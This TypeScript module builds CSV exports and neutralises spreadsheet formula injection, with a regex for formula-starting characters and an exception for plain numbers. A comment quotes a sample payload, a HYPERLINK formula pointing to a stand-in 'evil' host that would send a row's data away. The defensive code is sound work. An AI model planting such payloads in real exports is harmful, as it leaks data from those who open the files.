// Writing CSV (RFC 4180) for people to open in a spreadsheet: the one cell writer of every export,
// the server's and the workspace's "Download CSV" (web/src/components/csv-export.tsx imports it).
// Browser-safe: csv-stringify's browser build of its sync writer (listed in .dependency-cruiser.cjs).
// Its default entry reads Node's Buffer at load, which left the whole workspace blank in the browser
// ("Buffer is not defined"); the browser build carries its own and runs on the server as well.
//
// CSV injection (issue 36 item 13, OWASP "CSV Injection"): a spreadsheet runs a cell that starts
// with = + - @ (or a tab or carriage return before one) as a formula, so a contact named
// =HYPERLINK("http://evil/?"&A1) becomes a live link that sends the row away. Such a cell is written
// with a single quote in front, which the spreadsheet shows as text, and quoted. A plain number
// (-5, +3.5, -12%) cannot be a formula and is written as it is, so the figures stay figures.
// (csv-stringify's own escape_formulas is not used: it would write -5 as '-5, and it misses the
// full-width forms.)
import { stringify } from "csv-stringify/browser/esm/sync";

/**
 * The UTF-8 byte order mark (EF BB BF), first in every downloaded CSV: without it Excel reads the
 * file in the machine's ANSI code page and shows "Müller" as "MÃ¼ller" (issue 71). The import side
 * drops it (csv-parse's `bom: true` in parse-csv.ts and enroll-csv.ts), so a download imports again.
 */
export const UTF8_BOM = "\uFEFF";

/** A CSV as the bytes a person downloads: the BOM, then the text as UTF-8. Browser-safe (Blob). */
export function csvDownloadBlob(csv: string): Blob {
  return new Blob([UTF8_BOM, csv], { type: "text/csv;charset=utf-8" });
}

export type CsvValue = string | number | boolean | null | undefined;

/** The first characters that make a spreadsheet read a cell as a formula (with full-width forms). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$/;

/** True when a spreadsheet would read this text as a formula. */
export function isFormulaLike(s: string): boolean {
  return FORMULA_START.test(s) && !PLAIN_NUMBER.test(s);
}

const text = (v: CsvValue) => (v === null || v === undefined ? "" : String(v));
/** A formula-like cell as text: a leading quote (csv-stringify then quotes the cell it must). */
const neutral = (s: string) => (isFormulaLike(s) ? `'${s}` : s);

/** RFC 4180 quoting only: quoted when it holds a comma, a quote or a line break; quotes doubled. */
export function quoteCsvField(s: string): string {
  return stringify([[s]], { record_delimiter: "unix", eof: false });
}

/** One exported cell: formula-like text neutralised (a leading ' and quoted), then RFC 4180 quoting. */
export function csvCell(v: CsvValue): string {
  return stringify([[neutral(text(v))]], { quoted_match: /^'/, eof: false });
}

/**
 * A whole export: the header row, then the rows, CRLF line ends (RFC 4180), every formula-like cell
 * neutralised. `delimiter: ";"` writes what Excel in de/fr/nl opens as columns.
 */
export function toCsv(
  header: readonly CsvValue[],
  rows: readonly (readonly CsvValue[])[],
  { delimiter = "," }: { delimiter?: "," | ";" | "\t" } = {},
): string {
  const records = [header, ...rows].map((r) => r.map((v) => neutral(text(v))));
  return stringify(records, {
    delimiter,
    record_delimiter: "windows",
    // a neutralised cell is quoted like the hand-written writer did, so the quote reads as text
    quoted_match: /^'/,
  });
}
